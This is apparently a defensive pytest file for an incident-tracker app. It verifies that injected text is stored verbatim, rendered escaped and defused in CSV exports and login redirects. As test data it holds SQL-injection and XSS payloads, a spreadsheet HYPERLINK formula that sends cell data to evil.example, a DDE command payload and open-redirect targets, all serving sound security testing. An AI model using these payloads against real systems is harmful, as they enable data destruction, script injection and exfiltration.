"""SQL and HTML injection in every text field a client can write: stored verbatim, read back
equal, shown escaped in the web UI, and the tables are all still there afterwards."""

import csv
import io

import pytest

from tests.factories import incident_body, service_body, stored_counts
from tests.hostile.conftest import sqlite_only
from tests.ui.conftest import PASSWORD
from tracker.cli import main
from tracker.clock import utcnow
from tracker.db import database
from tracker.services.tokens import create_token

SQL = "x'); DROP TABLE incident; DELETE FROM service WHERE ('1'='1"
HTML = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
HOSTILE = f'{SQL} {HTML} " OR 1=1 -- {{{{7*7}}}} %s'
ESCAPED = "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
MAINTENANCE = {
    "services": ["all"],
    "starts_at": "2024-07-20T02:00:00+08:00",
    "ends_at": "2024-07-20T04:00:00+08:00",
    "reason": HOSTILE,
    "announced_at": "2024-07-18T10:00:00+08:00",
}


@pytest.fixture
def hostile(app, api):
    """Every writable text field holds HOSTILE, written through the API by a token whose name
    is hostile too; returns the incident id."""
    with app.app_context(), database.connection_context():
        writer = create_token(HOSTILE, "admin", actor="test", now=utcnow())
    api.tokens["hostile"] = writer
    service = service_body("ledger", name=HOSTILE, description=HOSTILE)
    assert api.post("/services", service, role="hostile").status_code == 201
    incident = incident_body(
        title=HOSTILE,
        services=["ledger"],
        summary=HOSTILE,
        grade="none",
        grade_reason=HOSTILE,
        location=HOSTILE,
        responsibility=[{"party": HOSTILE, "share": 0.5}],
    )
    created = api.post("/incidents", incident, role="hostile").get_json()
    note = {"at": "2024-07-23T10:06:00+08:00", "text": HOSTILE}
    assert api.post(f"/incidents/{created['id']}/timeline", note, role="hostile").status_code == 201
    patch = {"summary": HTML + " changed"}
    assert api.patch(f"/incidents/{created['id']}", patch, role="hostile").status_code == 200
    assert api.post("/maintenance-windows", MAINTENANCE, role="hostile").status_code == 201
    return created["id"]


def test_hostile_text_is_stored_verbatim_in_every_field(api, hostile):
    service = api.get("/services/ledger").get_json()
    incident = api.get(f"/incidents/{hostile}").get_json()
    read_back = [
        service["name"],
        service["description"],
        incident["title"],
        incident["grade_reason"],
        incident["location"],
        incident["responsibility"][0]["party"],
        incident["created_by"],
        api.get(f"/incidents/{hostile}/timeline").get_json()["items"][0]["text"],
        api.get(f"/incidents/{hostile}/timeline").get_json()["items"][0]["author"],
        api.get("/maintenance-windows").get_json()["items"][0]["reason"],
    ]
    assert read_back == [HOSTILE] * len(read_back)
    assert incident["summary"] == HTML + " changed"


def test_the_tables_are_intact_after_the_hostile_writes(app, api, hostile):
    counts = stored_counts(app)
    assert (counts["service"], counts["incident"], counts["timeline_entry"]) == (1, 1, 1)
    assert api.get("/incidents", q=SQL).get_json()["items"][0]["id"] == hostile


UI_PAGES = ("/incidents", "/incidents/1", "/services", "/maintenance", "/report?week=2024-W30")


@sqlite_only
@pytest.mark.parametrize("page", UI_PAGES)
def test_hostile_text_is_shown_escaped_in_the_ui(browser, hostile, page):
    browser.sign_in("viewer")
    html = browser.get(page).get_data(as_text=True)
    assert "<script>alert" not in html and "<img src=x" not in html
    assert ESCAPED in html


@sqlite_only
def test_a_refused_form_echoes_hostile_input_escaped(browser, hostile):
    browser.sign_in("responder")
    form = {"title": HOSTILE, "services": "ledger", "detected_at": "not a time"}
    page = browser.post("/incidents/new", form)
    html = page.get_data(as_text=True)
    assert page.status_code == 422 and "<script>alert" not in html and ESCAPED in html


@sqlite_only
def test_a_hostile_sign_in_name_is_echoed_escaped(browser):
    page = browser.post("/login", {"name": HTML, "password": "wrong password"})
    html = page.get_data(as_text=True)
    assert page.status_code == 401 and "<script>alert" not in html and ESCAPED in html


@sqlite_only
def test_the_weekly_report_carries_the_title_verbatim(api, hostile):
    markdown = api.get("/reports/weekly/2024-W30", format="md", lang="en")
    events = [line for line in markdown.get_data(as_text=True).splitlines() if HTML in line]
    assert markdown.mimetype == "text/markdown" and len(events) == 1 and SQL in events[0]


@sqlite_only
def test_a_formula_in_a_title_is_not_a_formula_in_the_csv_report(api, gateway):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    api.post("/incidents", incident_body(title=formula))
    api.post("/incidents", incident_body(title="@SUM(1+1)*cmd|' /C calc'!A0"))
    text = api.get("/reports/weekly/2024-W30", format="csv").get_data(as_text=True)
    titles = [
        row["label"] for row in csv.DictReader(io.StringIO(text)) if row["section"] == "event"
    ]
    assert titles and not [t for t in titles if t[:1] in ("=", "+", "-", "@")]


@sqlite_only
def test_user_names_refuse_injection_naming_the_field(runner, app):
    before = stored_counts(app)
    result = runner.invoke(
        main, ["users", "create", SQL, "--role", "admin"], input="long enough pw\n"
    )
    assert result.exit_code == 2 and "name" in result.output
    assert stored_counts(app) == before


@sqlite_only
def test_a_sign_in_never_redirects_to_another_site(browser):
    hostile_targets = (
        "//evil.example",
        "/\\evil.example",
        "/\\/evil.example",
        "https://evil.example",
    )
    landed = set()
    for target in hostile_targets:
        browser.get("/login")
        response = browser.client.post(
            f"/login?next={target}",
            data={"name": "viewer", "password": PASSWORD, "csrf_token": browser.token},
        )
        landed.add(response.location)
    assert landed == {"/"}
